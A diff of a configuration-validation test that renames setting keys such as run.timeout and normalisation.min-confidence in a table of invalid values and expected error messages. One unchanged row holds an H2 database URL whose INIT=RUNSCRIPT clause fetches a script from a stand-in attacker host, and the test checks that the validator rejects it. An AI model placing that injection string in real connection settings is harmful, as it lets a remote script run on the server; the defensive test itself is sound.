@@ -33,19 +33,19 @@ class SettingsTest {
           run.parallel                    | 17             | "17"; it must be a whole number from 1 to 16
           run.parallel                    | ''             | not set; it must be a whole number from 1 to 16
           run.parallel                    | 99999999999999999999 | whole number
-          run.processing-limit            | 30m            | "30m"; it must be an ISO 8601 duration, such as PT30S or PT5M
-          run.processing-limit            | -PT1M          | ISO 8601 duration
-          run.kept-for                    | P99999999D     | ISO 8601 duration
+          run.timeout            | 30m            | "30m"; it must be an ISO 8601 duration, such as PT30S or PT5M
+          run.timeout            | -PT1M          | ISO 8601 duration
+          run.retention-time                    | P99999999D     | ISO 8601 duration
           stream.open-limit               | -1             | "-1"; it must be a whole number from 1 to 1000000
           stream.abandoned-run            | stop           | "stop"; it must be one of continue, cancel
-          stream.abandoned-after          | soon           | ISO 8601 duration
+          stream.abandoned-run-grace          | soon           | ISO 8601 duration
           crawl.attempts                  | 0              | "0"; it must be a whole number from 1 to 100
           crawl.browser.url               | localhost:9515 | "localhost:9515"; it must be an address that begins with http://
           access.everyone                 | ja             | "ja"; it must be true or false
           access.origins                  | admin.example.org | "admin.example.org"; it must be web origins with their scheme
           access.origins                  | https://a.example,https://b.example/path | "https://b.example/path"; it must be web origins
-          extraction.sure-from            | 2              | "2"; it must be a number from 0.0 to 1.0
-          extraction.sure-from            | NaN            | a number from 0.0 to 1.0
+          normalisation.min-confidence            | 2              | "2"; it must be a number from 0.0 to 1.0
+          normalisation.min-confidence            | NaN            | a number from 0.0 to 1.0
           refresh.at-first-start          | maybe          | true or false
           database.url                    | jdbc:mysql://host/db?password=secret | "jdbc:mysql:…"; it must be an address that begins with jdbc:h2: or jdbc:postgresql:
           database.url                    | jdbc:h2:file:./data/x;INIT=RUNSCRIPT FROM 'http://evil.example/x' | an address without INIT and AUTO_SERVER
